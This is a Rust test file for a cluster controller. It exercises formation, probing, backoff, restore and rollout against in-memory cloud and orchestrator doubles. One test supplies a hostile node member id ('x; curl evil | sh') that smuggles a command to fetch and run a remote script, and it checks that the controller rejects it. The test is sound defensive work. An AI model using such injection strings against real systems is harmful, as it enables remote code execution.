//! The controller in-process: `reconcile`, `observe` and `act` against the
//! in-memory cloud, nodes and orchestrator, on tokio's paused clock (every
//! wait in them completes at once, in order).

use std::sync::Arc;
use std::time::Duration;

use super::in_memory::{Cloud, Nodes, Swarmish};
use super::{ClusterContext, Connections, Controller, ConvergeReport, Probing};
use crate::bootstrap::Scripts;
use crate::progress::LogReporter;
use crate::spec::ClusterSpec;
use crate::state::{Attempt, ClusterRecord, NodePhase, Reason, SqliteStore, StatePaths, Store};

struct World {
    ctl: Controller,
    ctx: ClusterContext,
    cloud: Arc<Cloud>,
    nodes: Arc<Nodes>,
    swarm: Arc<Swarmish>,
    _dir: tempfile::TempDir,
}

/// A cluster of `managers` + `workers` on nothing yet, whose lost machines
/// are due for replacement when first seen (no grace).
fn world(managers: u32, workers: u32) -> World {
    let dir = tempfile::tempdir().unwrap();
    let paths = StatePaths::resolve(Some(dir.path().join("state.db"))).unwrap();
    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(paths.db()).unwrap());
    let mut spec = ClusterSpec::example("web", managers, workers);
    spec.health.lost_timeout = Duration::ZERO;
    spec.health.not_ready_timeout = Duration::ZERO;
    let record = ClusterRecord {
        spec,
        id: "c-1".into(),
        phase: "creating".into(),
        created_at: String::new(),
        updated_at: String::new(),
    };
    store.put_cluster(&record).unwrap();
    let ctx = ClusterContext::create(&*store, record).unwrap();
    let cloud = Arc::new(Cloud::default());
    let nodes = Arc::new(Nodes::new(cloud.clone()));
    let swarm = Arc::new(Swarmish::default());
    let ctl = Controller {
        store,
        provider: cloud.clone(),
        orchestrator: swarm.clone(),
        scripts: Arc::new(Scripts::new(None)),
        paths,
        reporter: Arc::new(LogReporter),
        connector: nodes.clone(),
        probing: Probing::MembershipFirst,
        gone: Arc::default(),
        stop: Arc::default(),
    };
    World {
        ctl,
        ctx,
        cloud,
        nodes,
        swarm,
        _dir: dir,
    }
}

impl World {
    async fn converge(&self) -> ConvergeReport {
        self.ctl.converge(&self.ctx).await.expect("converges")
    }

    fn node_names(&self) -> Vec<String> {
        let mut names: Vec<String> = self
            .ctl
            .store
            .nodes("web")
            .unwrap()
            .into_iter()
            .map(|n| n.name)
            .collect();
        names.sort();
        names
    }
}

#[tokio::test(start_paused = true)]
async fn a_cluster_forms_once_with_joins_behind_the_init_and_managers_one_at_a_time() {
    let w = world(3, 2);
    let report = w.converge().await;
    assert!(report.healthy, "{report:?}");
    assert_eq!(w.swarm.inits(), 1);
    // Raft takes one new member at a time; the joins waited for the init
    // (a join before it fails in the double).
    assert_eq!(w.swarm.most_manager_joins_at_once(), 1);
    assert_eq!(w.swarm.ready().len(), 5);
    assert_eq!(w.cloud.calls("create_machine"), 5);
    // A second run changes nothing.
    let report = w.converge().await;
    assert!(report.healthy && report.remediations.is_empty());
    assert_eq!(w.cloud.calls("create_machine"), 5);
    assert_eq!(w.swarm.inits(), 1);
}

#[tokio::test(start_paused = true)]
async fn nodes_waiting_for_their_addresses_share_one_listing_a_poll() {
    let w = world(1, 7);
    // Each server is in BUILD, with no address, for three listings.
    w.cloud.address_after_listings(3);
    let report = w.converge().await;
    assert!(report.healthy, "{report:?}");
    assert_eq!(w.swarm.ready().len(), 8);
    // One listing a poll, whoever waits: three, and a fourth for the
    // servers created just after the first; plus each pass's observation
    // (two: create, then the pass that sees it converged). A listing per
    // node and poll made 16 here.
    assert_eq!(w.cloud.calls("list_machines"), 4 + 2);
}

#[tokio::test(start_paused = true)]
async fn a_converged_pass_asks_one_manager_and_probes_no_vouched_node() {
    let mut w = world(3, 4);
    w.converge().await;
    let (connections, probes) = (w.nodes.total(), w.swarm.probes());
    w.converge().await;
    assert_eq!(
        w.nodes.total() - connections,
        1,
        "{:?}",
        w.nodes.connections()
    );
    let probed: Vec<String> = w
        .swarm
        .probes()
        .into_iter()
        .filter(|(node, n)| probes.get(node) != Some(n))
        .map(|(node, _)| node)
        .collect();
    assert_eq!(probed, ["web-manager-1"]);

    // A person's command asks every node itself.
    w.ctl.probing = Probing::EveryNode;
    let connections = w.nodes.total();
    w.converge().await;
    assert_eq!(w.nodes.total() - connections, 7);
}

#[tokio::test(start_paused = true)]
async fn a_run_connects_to_each_node_once_across_its_passes() {
    let mut w = world(1, 3);
    // Every pass asks every node itself: the confirming pass after the
    // create reuses the connections the create opened.
    w.ctl.probing = Probing::EveryNode;
    w.converge().await;
    assert_eq!(
        w.nodes.connections().into_values().collect::<Vec<_>>(),
        [1, 1, 1, 1],
        "{:?}",
        w.nodes.connections()
    );
}

#[tokio::test(start_paused = true)]
async fn a_run_that_asks_every_node_asks_each_once_then_takes_the_membership_word() {
    let mut w = world(1, 3);
    w.ctl.probing = Probing::EveryNode;
    w.converge().await;
    // Each node was asked once, the workers after their joins; the
    // confirming pass asked the manager for the membership alone (its own
    // list vouches for it) and no worker.
    let probes = w.swarm.probes();
    assert_eq!(probes["web-manager-1"], 1, "{probes:?}");
    for worker in ["web-worker-1", "web-worker-2", "web-worker-3"] {
        assert_eq!(probes[worker], 1, "{probes:?}");
    }

    // Within one run: a node whose connection was lost since its report,
    // listed ready all the same, is asked again; the others are not.
    let connections = Connections::default();
    let observe = || w.ctl.observe(&w.ctx, Probing::EveryNode, &connections);
    observe().await.unwrap();
    let before = w.swarm.probes();
    w.nodes.sever("web-worker-2");
    observe().await.unwrap();
    let after = w.swarm.probes();
    assert_eq!(after["web-worker-1"], before["web-worker-1"]);
    assert_eq!(after["web-worker-2"], before["web-worker-2"] + 1);
    assert_eq!(after["web-manager-1"], before["web-manager-1"]);

    // A manager its own list no longer shows Ready is asked itself.
    w.swarm.down("web-manager-1");
    let (_, observed) = observe().await.unwrap();
    assert_eq!(
        w.swarm.probes()["web-manager-1"],
        before["web-manager-1"] + 1
    );
    assert!(matches!(
        observed.probes["web-manager-1"],
        super::Probe::Reached(_)
    ));
    connections.close_all().await;
}

#[tokio::test(start_paused = true)]
async fn a_kept_connection_is_used_while_it_works_and_replaced_when_it_closed() {
    let w = world(1, 2);
    w.converge().await;
    let connections = Connections::default();
    let observe = || w.ctl.observe(&w.ctx, Probing::EveryNode, &connections);
    observe().await.unwrap();
    let opened = w.nodes.total();
    let (_, observed) = observe().await.unwrap();
    assert_eq!(w.nodes.total(), opened, "a second look opens nothing");
    assert!(matches!(
        observed.probes["web-manager-1"],
        super::Probe::Reached(_)
    ));

    // Its connection reset (the node rebooted): asked over a new one, once.
    w.nodes.sever("web-worker-1");
    let (_, observed) = observe().await.unwrap();
    assert_eq!(w.nodes.total(), opened + 1);
    assert_eq!(w.nodes.connections()["web-worker-1"], 3);
    assert!(matches!(
        observed.probes["web-worker-1"],
        super::Probe::Reached(_)
    ));
    connections.close_all().await;
}

#[tokio::test(start_paused = true)]
async fn a_member_id_a_node_reports_after_joining_is_checked_before_it_is_kept() {
    let w = world(1, 1);
    w.swarm.claim_id("web-worker-1", "x; curl evil | sh");
    let err = w
        .ctl
        .converge(&w.ctx)
        .await
        .expect_err("a hostile id fails the node");
    let text = err.to_string();
    assert!(
        text.contains("web-worker-1") && text.contains("member id"),
        "{text}"
    );
    let rec = w.ctl.store.node("web", "web-worker-1").unwrap().unwrap();
    assert_eq!(rec.member_id, None);
    assert_eq!(rec.phase, NodePhase::Failed);
}

#[tokio::test(start_paused = true)]
async fn a_node_the_membership_lists_down_is_probed() {
    let w = world(1, 2);
    w.converge().await;
    w.swarm.down("web-worker-2");
    let probes = w.swarm.probes();
    let connections = Connections::default();
    let (_, observed) = w
        .ctl
        .observe(&w.ctx, Probing::MembershipFirst, &connections)
        .await
        .unwrap();
    connections.close_all().await;
    assert!(w.swarm.probes()["web-worker-2"] > probes["web-worker-2"]);
    assert_eq!(w.swarm.probes()["web-worker-1"], probes["web-worker-1"]);
    assert!(matches!(
        observed.probes["web-worker-1"],
        super::Probe::Vouched(_)
    ));
    assert!(matches!(
        observed.probes["web-worker-2"],
        super::Probe::Reached(_)
    ));
}

#[tokio::test(start_paused = true)]
async fn a_stopped_worker_is_replaced_then_removed_and_deleted() {
    let w = world(1, 2);
    w.converge().await;
    w.cloud.stop("web-worker-1");
    w.swarm.down("web-worker-1");
    let report = w.converge().await;
    assert_eq!(report.remediations, ["web-worker-1"]);
    assert!(report.healthy, "{report:?}");
    // The replacement took the lowest free index while worker-1 was still
    // recorded; worker-1 left once it was ready.
    assert_eq!(
        w.node_names(),
        ["web-manager-1", "web-worker-2", "web-worker-3"]
    );
    let mut machines = w.cloud.nodes();
    machines.sort();
    assert_eq!(machines, w.node_names());
    assert!(!w.swarm.ready().contains("web-worker-1"));
}

#[tokio::test(start_paused = true)]
async fn a_failed_install_backs_off_and_is_not_tried_again_inside_the_backoff() {
    let w = world(1, 1);
    w.swarm.fail_install("web-worker-1");
    let failed = w.ctl.converge(&w.ctx).await;
    assert!(failed.is_err());
    let rec = w.ctl.store.node("web", "web-worker-1").unwrap().unwrap();
    assert_eq!(rec.phase, NodePhase::Failed);
    assert!(rec.retry_at.is_some());
    let tried = w.swarm.installs()["web-worker-1"];
    // Within the backoff, the daemon's next pass leaves it alone and says why.
    let report = w.converge().await;
    assert!(!report.healthy);
    assert_eq!(w.swarm.installs()["web-worker-1"], tried);
    let backing_off = Reason::BackingOff {
        node: "web-worker-1".into(),
        attempt: Attempt::Start,
    };
    let rec = w.ctl.store.node("web", "web-worker-1").unwrap().unwrap();
    assert_eq!(rec.conditions, std::slice::from_ref(&backing_off));
    // The next pass finds the same reason on the node: it is not told again.
    let _ = w.converge().await;
    let events = w.ctl.store.events("web", 50).unwrap();
    let told: Vec<_> = events
        .iter()
        .filter(|e| e.message == backing_off.to_string())
        .collect();
    assert_eq!(told.len(), 1, "{events:?}");
    assert_eq!(told[0].node.as_deref(), Some("web-worker-1"));
    // A person's command clears the backoff, and the install is tried again.
    w.ctl.clear_backoff(&w.ctx).unwrap();
    let _ = w.ctl.converge(&w.ctx).await;
    assert_eq!(w.swarm.installs()["web-worker-1"], tried + 1);
}

#[tokio::test(start_paused = true)]
async fn a_held_install_ends_at_the_converge_timeout_and_the_rest_joined_meanwhile() {
    let mut w = world(1, 2);
    w.ctx.record.spec.timeouts.converge = Duration::from_secs(600);
    w.swarm.hold_install("web-worker-2");
    let started = tokio::time::Instant::now();
    let result = w.ctl.converge(&w.ctx).await;
    assert!(result.is_err());
    assert!(started.elapsed() >= Duration::from_secs(600));
    assert!(started.elapsed() < Duration::from_secs(700));
    let ready = w.swarm.ready();
    assert!(ready.contains("web-manager-1") && ready.contains("web-worker-1"));
    assert!(!ready.contains("web-worker-2"));
}

/// A backup of the converged `world`'s manager `from`, the machines of its
/// `managers` managers gone, and a restore from the backup asked for: the
/// backed-up member id and the address it was at.
fn lose_managers_and_ask_for_restore(w: &mut World, managers: u32, from: &str) -> (String, String) {
    let backup = w._dir.path().join("web-1.tar.gz");
    std::fs::write(&backup, w.swarm.backup_of(from)).unwrap();
    let backed_up_id = w.swarm.member_id(from).unwrap();
    let address = w
        .ctl
        .store
        .node("web", from)
        .unwrap()
        .unwrap()
        .addresses
        .unwrap()
        .private;
    for i in 1..=managers {
        w.cloud.vanish(&format!("web-manager-{i}"));
    }
    w.ctx.record.spec.restore = Some(crate::spec::RestoreRequest {
        archive: backup.display().to_string(),
        taken_at: "2026-12-01T00:00:00Z".into(),
        private_address: Some(address.clone()),
        force: false,
        ..Default::default()
    });
    w.ctl.store.put_cluster(&w.ctx.record).unwrap();
    (backed_up_id, address)
}

#[tokio::test(start_paused = true)]
async fn with_no_manager_left_a_restore_re_forms_the_cluster_and_the_workers_rejoin() {
    let mut w = world(3, 2);
    w.converge().await;
    let workers: Vec<Option<String>> = ["web-worker-1", "web-worker-2"]
        .iter()
        .map(|n| w.swarm.member_id(n))
        .collect();
    let (backed_up_id, address) = lose_managers_and_ask_for_restore(&mut w, 3, "web-manager-2");

    let report = w.converge().await;
    assert!(report.healthy, "{report:?}");
    assert_eq!((w.swarm.restores(), w.swarm.inits()), (1, 1));
    // The new manager is the backed-up one, at its address.
    assert_eq!(w.swarm.member_id("web-manager-4"), Some(backed_up_id));
    assert!(w.cloud.running_at("web-manager-4", &address));
    // Workers rejoined on their machines (new member ids), not replaced:
    // three new machines, all for managers.
    assert_eq!(w.cloud.calls("create_machine"), 5 + 3);
    for (n, old) in ["web-worker-1", "web-worker-2"].iter().zip(&workers) {
        assert!(w.swarm.member_id(n).is_some() && w.swarm.member_id(n) != *old);
    }
    let ready: Vec<String> = w.swarm.ready().into_iter().collect();
    assert_eq!(
        ready,
        [
            "web-manager-1",
            "web-manager-2",
            "web-manager-4",
            "web-worker-1",
            "web-worker-2"
        ]
    );
    assert_eq!(w.node_names(), ready);
    // Nothing left listed that is no node, and the request is done.
    assert_eq!(w.swarm.listed(), 5);
    let listed = w.ctl.store.events("web", 200).unwrap();
    assert!(
        listed
            .iter()
            .any(|e| e.message.starts_with("restore finished")),
        "{listed:?}"
    );
    let stored = w.ctl.store.cluster("web").unwrap().unwrap();
    assert_eq!(stored.spec.restore, None);
}

/// Kubernetes names a Node after its node: a worker that rejoins a
/// restored cluster registers as its old entry, which must then be kept,
/// not removed as the old cluster's (that left it joined and unlisted, and
/// it was joined a second time on the next pass).
#[tokio::test(start_paused = true)]
async fn a_worker_that_rejoins_as_its_old_entry_keeps_it() {
    let mut w = world(1, 2);
    w.swarm.name_members_after_nodes();
    w.converge().await;
    lose_managers_and_ask_for_restore(&mut w, 1, "web-manager-1");

    let report = w.converge().await;
    assert!(report.healthy, "{report:?}");
    for n in ["web-worker-1", "web-worker-2"] {
        assert_eq!(w.swarm.member_id(n).as_deref(), Some(n));
        // Once at the create, once rejoining the restored cluster.
        assert_eq!(w.swarm.joins().get(n), Some(&2), "{n}");
    }
    assert_eq!(w.swarm.listed(), 3);
}

#[tokio::test(start_paused = true)]
async fn a_settled_cluster_is_found_so_without_a_write_and_a_cluster_with_work_is_not() {
    let w = world(1, 2);
    w.converge().await;
    let store = &w.ctl.store;
    let ctx = |workers: u32| {
        let mut record = store.cluster("web").unwrap().unwrap();
        record.spec.workers = workers;
        ClusterContext::new(&**store, record).unwrap()
    };
    let written = || {
        (
            store.nodes("web").unwrap(),
            store.events("web", 100).unwrap(),
        )
    };
    let before = written();
    assert!(w.ctl.settled(&ctx(2)).await.unwrap());
    // A settled look counts as a listing for the gone-watch: a machine seen
    // missing a minute ago and listed now is no longer "gone since then".
    w.ctl.gone.observe("web", "web-worker-2", true);
    tokio::time::advance(Duration::from_secs(60)).await;
    assert!(w.ctl.settled(&ctx(2)).await.unwrap());
    assert_eq!(
        w.ctl.gone.observe("web", "web-worker-2", true),
        Some(Duration::ZERO)
    );
    w.ctl.gone.observe("web", "web-worker-2", false);
    // A scale request, a node the membership lists down: work for the
    // pass under the lock, and nothing written meanwhile.
    assert!(!w.ctl.settled(&ctx(3)).await.unwrap());
    w.swarm.down("web-worker-1");
    assert!(!w.ctl.settled(&ctx(2)).await.unwrap());
    assert_eq!(written(), before);
    // The pass records it, and with the node back the cluster is settled.
    let report = w.converge().await;
    assert_eq!(report.remediations, ["web-worker-1"]);
    assert!(w.ctl.settled(&ctx(2)).await.unwrap());
}

#[tokio::test(start_paused = true)]
async fn a_changed_flavor_is_rolled_out_in_one_run_a_node_at_a_time() {
    let mut w = world(1, 2);
    w.converge().await;
    let old_machines: Vec<String> = w
        .ctl
        .store
        .nodes("web")
        .unwrap()
        .into_iter()
        .filter_map(|n| n.machine_id)
        .collect();
    let before = w.ctx.record.spec.machines();
    w.ctx.record.spec.flavor = Some("big".into());
    w.ctx.record.spec.change_machines_from(before);
    w.ctl.store.put_cluster(&w.ctx.record).unwrap();
    // One run goes on through the waits for each new node.
    let report = w.converge().await;
    assert!(report.healthy, "{report:?}");
    let nodes = w.ctl.store.nodes("web").unwrap();
    assert_eq!(nodes.len(), 3);
    assert!(
        nodes
            .iter()
            .all(|n| n.machine.as_deref() == Some("image=- flavor=big")),
        "{nodes:?}"
    );
    assert!(nodes
        .iter()
        .all(|n| !old_machines.contains(n.machine_id.as_ref().unwrap())));
    // Each old node went by the rollout, none by remediation.
    let events = w.ctl.store.events("web", 100).unwrap();
    let retired = events
        .iter()
        .filter(|e| e.message.starts_with("retiring: rollout"))
        .count();
    assert_eq!(retired, 3);
    assert_eq!(w.cloud.nodes().len(), 3);
    assert_eq!(w.swarm.ready().len(), 3);
}
